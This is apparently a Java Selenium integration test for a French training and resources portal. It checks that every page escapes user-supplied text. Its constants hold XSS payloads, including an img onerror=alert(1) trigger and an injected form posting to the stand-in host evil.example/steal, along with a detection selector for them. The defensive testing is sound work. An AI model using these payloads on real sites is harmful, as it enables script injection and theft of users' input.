package fr.bocage.it.portal;

import fr.bocage.it.Api;
import fr.bocage.it.Chromium;
import fr.bocage.it.Mailbox;
import fr.bocage.it.Token;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.icegreen.greenmail.junit5.GreenMailExtension;
import fr.bocage.it.Api.Caller;
import fr.bocage.it.Api.Form;
import fr.bocage.it.contribution.ContributionJourneyBrowserIT;
import fr.bocage.it.training.webinar.Registrations;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import jakarta.mail.Multipart;
import jakarta.mail.Part;
import jakarta.mail.internet.MimeMessage;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * Escaping everywhere (issue 12, general test; issue 21 #8): every field a person controls is filled with markup,
 * then every page that shows it is opened in headless Chromium, and the DOM must hold no element that came from
 * it. The markup marks what it would inject ({@code data-injected}), so the check reads the DOM, not the source:
 * an element is found only if the browser built one. Each page must also show the markup as text, so that a page
 * that stopped showing the value cannot pass for an escaped one.
 */
class EscapingBrowserIT {
    @RegisterExtension
    static final GreenMailExtension MAIL = Mailbox.server();

    /** Text content, double- and single-quoted attribute breaking, all at once. */
    private static final String MARKUP = "<img src=x onerror=alert(1) data-injected>\"><form action=https://evil.example/steal "
            + "data-injected><input name=stolen data-injected>'><b data-injected>gras</b>";
    /** For fields of 100 characters at most (keywords, a course's duration). */
    private static final String SHORT = "\"><img src=x data-injected>'<b data-injected>";
    /** A multipart file name holds no double quote and no slash. */
    private static final String FILE_NAME = "<img src=x onerror=alert(1) data-injected><b data-injected>x.txt";
    private static final String INJECTED = "[data-injected], img[src='x'], form[action*='evil.example'], "
            + "input[name='stolen'], meta[http-equiv]";
    private static final String NEXT_YEAR = Integer.toString(LocalDate.now().getYear() + 1);

    private final List<String> failures = new ArrayList<>();

    @Test
    void noPageBuildsAnElementFromWhatPeopleTyped() throws Exception {
        String word = Token.next();
        String hostile = MARKUP + " " + word;
        String password = "echappement-" + Token.next();
        // No '>' in an address: the test's SMTP server (GreenMail) reads RCPT TO up to the first one. An unclosed
        // tag still makes an element if it is printed raw: the parser closes it at the next '>' of the page.
        String mailbox = Token.next();
        String email = "\"<img src=x data-injected onerror=alert(1) " + mailbox + "\"@example.org";
        Api.post("/api/accounts", Caller.ANONYMOUS, Json.createObjectBuilder().add("name", hostile).add("email", email)
                .add("organisation", hostile).add("territory", "bretagne").add("password", password)
                .add("acceptTerms", true).build()).expect(201);
        Api.get(linkPath(mailbox, "/inscription/confirmer")).expect(200);
        Caller contributor = Caller.account(email, password);

        long id = Api.upload(Form.text(FILE_NAME, "Les haies du " + word + " abritent les pollinisateurs.")
                .field("title", hostile).field("summary", hostile).field("keywords", SHORT + "\n" + word)
                .field("authors", hostile).field("organisation", hostile).field("territory", "bretagne")
                .field("type", "guide").field("theme", "water"), contributor)
                .expect(201).json().getJsonNumber("id").longValue();
        Api.post("/api/resources/" + id + "/submit", contributor).expect(200);
        String moderator = "moderatrice-" + Token.next();
        Caller moderatorCaller = Api.createAccount(moderator, "moderator");
        Api.post("/api/resources/" + id + "/request-changes", moderatorCaller,
                Json.createObjectBuilder().add("message", hostile).build()).expect(200);
        Api.post("/api/resources/" + id + "/submit", contributor).expect(200);

        String trainer = "formatrice-" + Token.next();
        Caller trainerCaller = Api.createAccount(trainer, "trainer");
        long webinar = Api.post("/api/webinars", trainerCaller, webinar(hostile)).expect(201).json()
                .getJsonNumber("id").longValue();
        Registrations.request(webinar, Json.createObjectBuilder().add("name", hostile)
                .add("email", "\"<img src=x data-injected " + word + "\"@example.org")
                .add("organisation", hostile).add("consent", true).build()).expect(202);
        Registrations.confirmWith(Registrations.tokenOf(linkPath(word, Registrations.CONFIRM_PAGE))).expect(200);
        long course = Api.post("/api/courses", trainerCaller, course(hostile)).expect(201).json()
                .getJsonNumber("id").longValue();
        String query = "/recherche?q=" + URLEncoder.encode(hostile, StandardCharsets.UTF_8);

        try (Chromium chromium = new Chromium()) {
            WebDriver driver = chromium.driver();
            WebDriverWait wait = new WebDriverWait(driver, Duration.ofSeconds(30));

            ContributionJourneyBrowserIT.logIn(driver, wait, email, password);
            check(driver, "/mon-espace", true);
            check(driver, "/mon-espace/ressources/" + id, true);
            assertTrue(text(driver).contains(FILE_NAME), "the file name is shown as text on the owner's page");
            ContributionJourneyBrowserIT.logOut(driver, wait);

            ContributionJourneyBrowserIT.logIn(driver, wait, moderator, Api.passwordOf(moderator));
            check(driver, "/moderation", true);
            check(driver, "/moderation/ressources/" + id, true);
            // Issue 20: moderators know the owner by name (the address stays on /admin/comptes).
            assertTrue(text(driver).contains(hostile), "the owner's name is shown as text");
            assertTrue(text(driver).contains(FILE_NAME), "the file name is shown as text");
            ContributionJourneyBrowserIT.logOut(driver, wait);
            Api.post("/api/resources/" + id + "/publish", moderatorCaller).expect(200);

            ContributionJourneyBrowserIT.logIn(driver, wait, "admin", Api.ADMIN_PASSWORD);
            check(driver, "/admin/comptes", true);
            ContributionJourneyBrowserIT.logOut(driver, wait);

            ContributionJourneyBrowserIT.logIn(driver, wait, trainer, Api.passwordOf(trainer));
            check(driver, "/webinaires/inscrits/" + webinar, true);
            check(driver, "/webinaires/modifier/" + webinar, false);
            check(driver, "/formations/" + course + "/modifier", false);
            ContributionJourneyBrowserIT.logOut(driver, wait);

            Api.searchSettled(1, "q", word + " pollinisateurs", "exact", "true"); // exact: the one document, no neighbours
            check(driver, "/ressources/" + id, true);
            check(driver, "/recherche?q=" + word, true);
            check(driver, query, true);
            check(driver, "/", false);
            check(driver, "/webinaires", true);
            check(driver, "/webinaires/" + webinar, true);
            check(driver, "/formations", true);
            check(driver, "/formations/" + course, true);
            check(driver, "/formations?q=" + URLEncoder.encode(hostile, StandardCharsets.UTF_8), true);
            check(driver, "/recherche?q=" + URLEncoder.encode(MARKUP + " " + word.substring(0, 11) + "x",
                    StandardCharsets.UTF_8), true);
        }
        assertEquals(List.of(), failures);
    }

    /**
     * The link to {@code path} of the e-mail to the address holding {@code mailbox}: the mail arrives, but the quoted
     * local part does not come back from the headers spelt as it was sent, so {@link Mailbox} does not find it.
     */
    private static String linkPath(String mailbox, String path) throws Exception {
        Pattern link = Pattern.compile("https?://[^\\s\"<>]+" + Pattern.quote(path) + "\\?jeton=[A-Za-z0-9_%-]+");
        Instant deadline = Instant.now().plus(Duration.ofSeconds(60));
        while (Instant.now().isBefore(deadline)) {
            for (MimeMessage message : MAIL.getReceivedMessages()) {
                if (Arrays.toString(message.getAllRecipients()).contains(mailbox)) {
                    Matcher matcher = link.matcher(text(message));
                    if (matcher.find()) {
                        return Mailbox.pathOf(matcher.group());
                    }
                }
            }
            Thread.sleep(500);
        }
        throw new AssertionError("no e-mail with a link to " + path + " for " + mailbox);
    }

    private static String text(Part part) throws Exception {
        Object content = part.getContent();
        if (content instanceof Multipart multipart) {
            StringBuilder text = new StringBuilder();
            for (int i = 0; i < multipart.getCount(); i++) {
                text.append(text(multipart.getBodyPart(i))).append('\n');
            }
            return text.toString();
        }
        return content instanceof String string ? string : "";
    }

    /** Opens the page; no injected element, and the markup shown as text where the page shows the value. */
    private void check(WebDriver driver, String page, boolean shownAsText) {
        driver.get(Api.BASE + page);
        new WebDriverWait(driver, Duration.ofSeconds(30))
                .until(ExpectedConditions.presenceOfElementLocated(By.tagName("footer")));
        Object injected = ((JavascriptExecutor) driver).executeScript(
                "return Array.from(document.querySelectorAll(arguments[0])).map(e => e.outerHTML)", INJECTED);
        if (!(injected instanceof List<?> elements) || !elements.isEmpty()) {
            failures.add(page + " built " + injected);
        }
        if (shownAsText && !text(driver).contains("data-injected")) {
            failures.add(page + " does not show the value: " + text(driver));
        }
    }

    private static String text(WebDriver driver) {
        return (String) ((JavascriptExecutor) driver).executeScript(
                "return document.body.innerText + ' ' + Array.from(document.querySelectorAll('input, textarea'))"
                        + ".map(e => e.value).join(' ')");
    }

    private static JsonObject webinar(String hostile) {
        return Json.createObjectBuilder()
                .add("metadata", Json.createObjectBuilder().add("title", hostile).add("summary", hostile)
                        .add("keywords", Json.createArrayBuilder().add(SHORT))
                        .add("themes", Json.createArrayBuilder().add("biodiversity")))
                .add("startsAt", Instant.now().plus(Duration.ofDays(30)).toString())
                .add("durationMinutes", 90)
                .add("speakers", Json.createArrayBuilder().add(Json.createObjectBuilder()
                        .add("name", hostile).add("organisation", hostile)))
                .add("series", hostile)
                .add("capacity", 10)
                .add("joinUrl", "https://visio.example/salle-42")
                .build();
    }

    private static JsonObject course(String hostile) {
        return Json.createObjectBuilder()
                .add("metadata", Json.createObjectBuilder().add("title", hostile).add("summary", hostile)
                        .add("organisation", hostile)
                        .add("themes", Json.createArrayBuilder().add("biodiversity"))
                        .add("audiences", Json.createArrayBuilder().add("local-authority-staff")))
                .add("objectives", hostile)
                .add("prerequisites", hostile)
                .add("level", "intermediate")
                .add("format", "in-person")
                .add("duration", SHORT)
                .add("price", 350)
                .add("sessions", Json.createArrayBuilder().add(Json.createObjectBuilder()
                        .add("startsAt", NEXT_YEAR + "-06-02T09:00").add("endsAt", NEXT_YEAR + "-06-03T17:00")
                        .add("place", hostile).add("capacity", 20)))
                .build();
    }
}
